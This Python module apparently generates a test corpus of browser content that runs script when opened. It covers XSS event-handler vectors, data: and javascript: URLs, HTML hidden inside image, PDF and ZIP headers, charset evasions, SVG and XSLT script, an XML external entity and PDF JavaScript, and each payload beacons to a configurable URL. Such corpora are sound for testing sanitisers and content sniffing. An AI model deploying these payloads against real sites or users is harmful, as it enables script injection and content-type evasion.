# SPDX-License-Identifier: Apache-2.0
"""
Contents that try to act when a browser opens them: CONTENTS.

Each calls home: it asks for a URL, by script where it can. `shown_as` is the type under which it
acts, `used_as` how: "page", "script", "module", "style" or "worker". `acts` is false for what
Chromium does not execute, though others have.
"""
import base64
import gzip
import struct
import zlib
from collections import namedtuple

Content = namedtuple("Content", "name shown_as used_as acts build")
CONTENTS = []

HTML, SVG, XML = "text/html", "image/svg+xml", "text/xml"
XHTML, SCRIPT, STYLE = "application/xhtml+xml", "text/javascript", "text/css"


def act(home):
    """Script without a character that HTML or XML would read otherwise."""
    return ("try{document.title='acted'}catch(e){}"
            f"try{{new Image().src='{home}'}}catch(e){{fetch('{home}',{{mode:'no-cors'}})}}"
            "try{alert(1)}catch(e){}")


def content(name, shown_as, text, used_as="page", acts=True, encode=None):
    """`text`: HOME stands for the URL, ACT for the script. `encode` makes the bytes of it."""
    def build(home):
        whole = text.replace("ACT", act(home)).replace("HOME", home)
        return encode(whole) if encode else whole.encode("latin-1")
    CONTENTS.append(Content(name, shown_as, used_as, acts, build))


def data_url(media_type, text):
    return lambda whole: whole.replace(
        "DATA", f"data:{media_type};base64," + base64.b64encode(
            text.replace("SCRIPT", whole.partition("\n")[0]).encode()).decode()
    ).partition("\n")[2].encode()


def before(prefix):
    return lambda whole: prefix + whole.encode()


def chunk(kind, body):
    return (struct.pack(">I", len(body)) + kind + body +
            struct.pack(">I", zlib.crc32(kind + body)))


def png_with(whole):
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)) +
            chunk(b"tEXt", b"Comment\0" + whole.encode()) +
            chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff")) + chunk(b"IEND", b""))


def jpeg_with(whole):
    text = whole.encode()
    return (b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xfe" +
            struct.pack(">H", len(text) + 2) + text + b"\xff\xd9")


def zip_with(whole):
    text = whole.encode()
    return (b"PK\3\4\x14\0\0\0\0\0\0\0\0\0" + struct.pack("<III", zlib.crc32(text), len(text),
            len(text)) + struct.pack("<HH", 6, 0) + b"a.html" + text)


INLINE = "<script>ACT</script>"
PAGE = "<!doctype html><title>x</title>" + INLINE
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

# ---- HTML ----
content("html", HTML, PAGE)
content("html-fragment", HTML, "<b>" + INLINE)
content("html-onerror", HTML, '<img src="x:" onerror="ACT">')
content("html-svg-onload", HTML, '<svg onload="ACT">')
content("html-body-onload", HTML, '<body onload="ACT">')
content("html-autofocus", HTML, '<input autofocus onfocus="ACT">')
content("html-ontoggle", HTML, '<details open ontoggle="ACT">x</details>')
content("html-source-onerror", HTML, '<video><source src="x:" onerror="ACT"></video>')
content("html-module", HTML, '<script type="module">ACT</script>')
content("html-script-src", HTML, '<script src="HOME"></script>')
content("html-base", HTML, '<base href="HOME/"><script src="a.js"></script>')
content("html-srcdoc", HTML, '<iframe srcdoc="&lt;script&gt;ACT&lt;/script&gt;"></iframe>')
content("html-javascript-url", HTML, '<iframe src="javascript:ACT"></iframe>')
content("html-data-iframe", HTML, 'ACT\n<iframe src="DATA"></iframe>',
        encode=data_url(HTML, "<script>SCRIPT</script>"))
content("html-data-object", HTML, 'ACT\n<object data="DATA"></object>',
        encode=data_url(HTML, "<script>SCRIPT</script>"))
content("html-data-embed-svg", HTML, 'ACT\n<embed src="DATA">',
        encode=data_url(SVG, SVG_OPEN + "><script>SCRIPT</script></svg>"))
content("html-meta-refresh", HTML, '<meta http-equiv="refresh" content="0;url=HOME">')
content("html-meta-refresh-data", HTML, 'ACT\n<meta http-equiv="refresh" content="0;url=DATA">',
        acts=False, encode=data_url(HTML, "<script>SCRIPT</script>"))
content("html-link", HTML, '<link rel="stylesheet" href="HOME">')
content("html-import", HTML, '<style>@import url("HOME");</style>')
content("html-image", HTML, '<img src="HOME">')
content("html-shadow", HTML, '<div><template shadowrootmode="open"><img src="x:" onerror="ACT">'
                             "</template></div>")
content("html-noscript-breakout", HTML, "<noscript><p title=\"</noscript><img src='x:' onerror="
                                        "&quot;\">" + INLINE)
content("html-hta", HTML, "<hta:application>" + INLINE)
content("html-conditional-comment", HTML, "<!--[if IE]>" + INLINE + "<![endif]-->", acts=False)
# ---- HTML that hides what it is ----
content("html-behind-comment", HTML, "<!-- " + "x" * 600 + " -->" + PAGE)
content("html-behind-spaces", HTML, " \t\r\n\f" * 200 + PAGE)
content("html-behind-text", HTML, "Dear reader,\n" * 60 + PAGE)
content("html-behind-nul", HTML, PAGE, encode=before(b"\0" * 20))
content("html-behind-xml", HTML, '<?xml version="1.0"?>' + PAGE)
content("html-utf-8-bom", HTML, PAGE, encode=before(b"\xef\xbb\xbf"))
content("html-utf-16-le", HTML, PAGE, encode=lambda s: b"\xff\xfe" + s.encode("utf-16-le"))
content("html-utf-16-be", HTML, PAGE, encode=lambda s: b"\xfe\xff" + s.encode("utf-16-be"))
content("html-utf-7", HTML + "; charset=utf-7", "+ADw-script+AD4-ACT+ADw-/script+AD4-", acts=False)
content("html-iso-2022-jp", HTML + "; charset=iso-2022-jp", "\x1b(J" + PAGE)
content("html-in-png", HTML, PAGE, encode=png_with)
content("html-in-jpeg", HTML, "-->" + PAGE + "<!--", encode=jpeg_with)
content("html-in-gif", HTML, PAGE, encode=before(b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xfe"))
content("html-in-bmp", HTML, PAGE, encode=before(b"BM\x9a\0\0\0\0\0\0\0\x36\0\0\0"))
content("html-in-pdf", HTML, PAGE, encode=before(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"))
content("html-in-zip", HTML, PAGE, encode=zip_with)
# ---- SVG and XML ----
content("svg-script", SVG, SVG_OPEN + "><script>ACT</script></svg>")
content("svg-script-href", SVG, SVG_OPEN + '><script xlink:href="HOME"/></svg>')
content("svg-onload", SVG, SVG_OPEN + ' onload="ACT"/>')
content("svg-onbegin", SVG, SVG_OPEN + '><rect><animate onbegin="ACT" attributeName="x" dur="1s"/>'
                                       "</rect></svg>")
content("svg-foreign-object", SVG, SVG_OPEN + '><foreignObject width="9" height="9"><iframe xmlns='
        '"http://www.w3.org/1999/xhtml" src="javascript:ACT"/></foreignObject></svg>')
content("svg-image", SVG, SVG_OPEN + '><image width="9" height="9" href="HOME"/></svg>')
content("svg-style", SVG, '<?xml-stylesheet href="HOME" type="text/css"?>' + SVG_OPEN + "/>")
content("svg-entity", SVG, '<!DOCTYPE svg [<!ENTITY s "ACT">]>' + SVG_OPEN +
        "><script>&s;</script></svg>")
content("svg-compressed", SVG, SVG_OPEN + "><script>ACT</script></svg>", acts=False,
        encode=lambda s: gzip.compress(s.encode()))
content("xhtml", XHTML, '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>'
                        "<script>ACT</script></head><body/></html>")
content("xml-html", XML, '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>ACT</h:script></x>')
content("xml-xslt", XML, 'ACT\n<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="DATA"?>'
        "<x/>", encode=data_url(XML, (
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            '<xsl:template match="/"><html><script>SCRIPT</script></html></xsl:template>'
            "</xsl:stylesheet>")))
content("xml-external-entity", XML, '<!DOCTYPE x [<!ENTITY e SYSTEM "HOME">]><x>&e;</x>',
        acts=False)
content("xml-scriptlet", XML, '<?XML version="1.0"?><scriptlet><script language="JScript">'
        "<![CDATA[ACT]]></script></scriptlet>", acts=False)
content("xml-component", XML, '<public:component xmlns:public="urn:HTMLComponent">'
        '<public:attach event="onload" for="window" onevent="ACT"/></public:component>', acts=False)
# ---- what a page takes in ----
content("script", SCRIPT, "ACT", used_as="script")
content("script-module", SCRIPT, "ACT;export default 1", used_as="module")
content("script-worker", SCRIPT, "ACT", used_as="worker")
content("script-json", SCRIPT, '[{"a":1}];ACT', used_as="script")
content("script-in-gif", SCRIPT, "GIF89a=1;ACT", used_as="script")
content("script-in-csv", SCRIPT, "a,b=1\nACT", used_as="script", acts=False)
content("script-service-worker", SCRIPT, "self.addEventListener('install',e=>{ACT});ACT",
        used_as="worker")
content("style-import", STYLE, '@import url("HOME");', used_as="style")
content("style-background", STYLE, 'html{background:url("HOME")}', used_as="style")
content("style-expression", STYLE, "html{width:expression(ACT);behavior:url(HOME);-moz-binding:"
        "url(HOME)}", used_as="style", acts=False)
# ---- for other programs ----
content("mhtml", "multipart/related; boundary=b", "MIME-Version: 1.0\r\nContent-Type: "
        "multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: "
        "http://h/\r\n\r\n" + PAGE + "\r\n--b--\r\n", acts=False)
content("mixed-replace", "multipart/x-mixed-replace; boundary=b",
        "--b\r\nContent-Type: text/html\r\n\r\n" + PAGE + "\r\n--b--\r\n", acts=False)
content("mail", "message/rfc822", "From: a@b\r\nContent-Type: text/html\r\n\r\n" + PAGE,
        acts=False)
content("pdf-script", "application/pdf", "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction"
        "<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\('HOME'\\))>>>>endobj\n2 0 obj<</Type"
        "/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
        "endobj\ntrailer<</Root 1 0 R>>\n%%EOF", acts=False)
content("flash", "application/x-shockwave-flash", "FWS\x09HOME", acts=False)
content("wasm", "application/wasm", "\0asm\1\0\0\0HOME", acts=False)
content("shortcut", "application/internet-shortcut", "[InternetShortcut]\r\nURL=HOME\r\n",
        acts=False)
content("manifest", "text/cache-manifest", "CACHE MANIFEST\nHOME\n", acts=False)
